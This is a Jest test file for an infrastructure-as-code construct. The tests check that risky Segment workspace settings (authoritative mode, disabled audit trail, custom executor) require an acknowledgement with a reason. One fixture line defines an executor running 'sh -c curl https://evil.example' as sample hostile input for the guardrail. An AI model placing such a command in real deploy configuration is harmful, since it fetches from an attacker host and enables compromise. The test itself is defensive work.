import { Executor } from '../../constructs/executor';
import type { SegmentWorkspaceProps } from '../../constructs/segment-workspace-props';
import { ControlRuleId } from '../../model/control-acknowledgements';
import { PlanTier, WorkspaceRole } from '../../model/enums';
import { SegmentAccessValidationError } from '../../model/validation';
import { GuardrailSuppressions } from '../../policy/suppressions';
import { collaborator } from '../support/fixtures';
import { errorOf } from '../support/validation';
import { expectViolation, findingsOf, LEVEL, manifestAnnotations, rule, setup, withoutContinueOnError, WS_LABEL } from './support';
import { readFileSync } from 'fs';
import { join } from 'path';

// Turning on authoritative mode, turning off the audit trail, or running another executor widens what a
// deploy may do to people: each is a guardrail error until the code acknowledges it with a reason, and
// the acknowledgement is shown in the plan (the reconciler's controls) and the inventory.

const REASON = 'The platform team owns every seat here (SEC-12).';

const CASES: [ControlRuleId, Partial<SegmentWorkspaceProps>, string][] = [
  [ControlRuleId.AUTHORITATIVE, { authoritative: true, retainEmails: ['owner@acme.example'] }, `${WS_LABEL} is authoritative: every member not declared and not among its 1 retained email(s) is removed.`],
  [ControlRuleId.AUDIT_TRAIL_OFF, { useAuditTrail: false }, `${WS_LABEL} does not check its record of managed users against Segment's audit trail.`],
  [ControlRuleId.CUSTOM_EXECUTOR, { executor: Executor.command(['sh', '-c', 'curl https://evil.example']) }, `${WS_LABEL} runs the executor "sh -c curl https://evil.example" instead of the bundled one.`],
];

describe('control settings need an acknowledgement in code', () => {
  withoutContinueOnError();

  test.each(CASES)('%s: an error without one, naming the setting and the fix; synth stops', (ruleId, props, message) => {
    const { app, ws } = setup(props);
    const f = expectViolation(app, ruleId, ws.node.path, [message]);
    expect(f.fix).toContain(`acknowledgements: [{ ruleId: '${ruleId}', reason:`);
    expect(rule(ruleId)).toMatchObject({ suppressible: false, acknowledgeable: true });
    expect(() => app.synth()).toThrow(`[prod/Workspace] [${ruleId}]`);
  });

  test.each(CASES)('%s: acknowledged with a reason, it passes and shows in the plan and the inventory', (ruleId, props) => {
    const { app, outdir, stack, ws } = setup({ ...props, acknowledgements: [{ ruleId, reason: REASON }] });
    ws.addGrant('Ana', { collaborator: collaborator(stack, 'Ana'), role: WorkspaceRole.READ_ONLY });
    expect(findingsOf(app, ruleId)).toEqual([expect.objectContaining({ suppressed: { reason: REASON, path: 'prod/Workspace', acknowledged: true } })]);
    app.synth();
    expect(manifestAnnotations(outdir, 'prod').filter((a) => a.level === LEVEL.error)).toEqual([]);
    const tf = JSON.parse(readFileSync(join(outdir, 'stacks', 'prod', 'cdk.tf.json'), 'utf8'));
    expect(tf.resource.terraform_data.workspace_reconciler.triggers_replace.controls.acknowledgements).toBe(`${ruleId}: ${REASON}`);
    const inventory = readFileSync(join(outdir, 'records', 'inventory.md'), 'utf8');
    expect(inventory).toContain(`- **${ruleId}** (acknowledged at \`prod/Workspace\`: ${REASON})`);
    const json = JSON.parse(readFileSync(join(outdir, 'records', 'inventory.json'), 'utf8'));
    expect(json.findings).toContainEqual(expect.objectContaining({ ruleId, suppressed: { reason: REASON, path: 'prod/Workspace', acknowledged: true } }));
  });

  test('a Team-plan workspace (authoritative is its only mode) needs the acknowledgement too', () => {
    const { app, ws } = setup({ planTier: PlanTier.TEAM, authoritative: true });
    expectViolation(app, ControlRuleId.AUTHORITATIVE, ws.node.path, ['is authoritative']);
  });

  test('a suppression cannot stand in for an acknowledgement', () => {
    const { ws } = setup({ authoritative: true });
    const err = errorOf(() => GuardrailSuppressions.add(ws, [{ ruleId: ControlRuleId.AUTHORITATIVE, reason: REASON }]));
    expect(err.message).toContain('is answered by an acknowledgement on the workspace configuration, not a suppression');
  });

  test.each([
    ['acknowledges a setting the workspace does not use (stale)', {}, [{ ruleId: ControlRuleId.AUTHORITATIVE, reason: REASON }], 'acknowledgements.0', 'answers no setting of this workspace'],
    ['acknowledges one rule twice', { useAuditTrail: false }, [{ ruleId: ControlRuleId.AUDIT_TRAIL_OFF, reason: REASON }, { ruleId: ControlRuleId.AUDIT_TRAIL_OFF, reason: REASON }], 'acknowledgements.1', 'one acknowledgement per rule'],
    ['gives no real reason', { authoritative: true }, [{ ruleId: ControlRuleId.AUTHORITATIVE, reason: 'ok' }], 'acknowledgements.0.reason', 'at least 10 characters'],
    ['names an unknown rule', { authoritative: true }, [{ ruleId: 'SA-PRIV-002' as ControlRuleId, reason: REASON }], 'acknowledgements.0.ruleId', 'SA-CTRL-001'],
  ])('fails at construction: an acknowledgement that %s', (_what, props, acknowledgements, field, says) => {
    let error: unknown;
    try {
      setup({ ...props, acknowledgements });
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(SegmentAccessValidationError);
    const problem = (error as SegmentAccessValidationError).problems[0];
    expect(problem.field).toBe(field);
    expect((error as Error).message).toContain(says);
  });
});
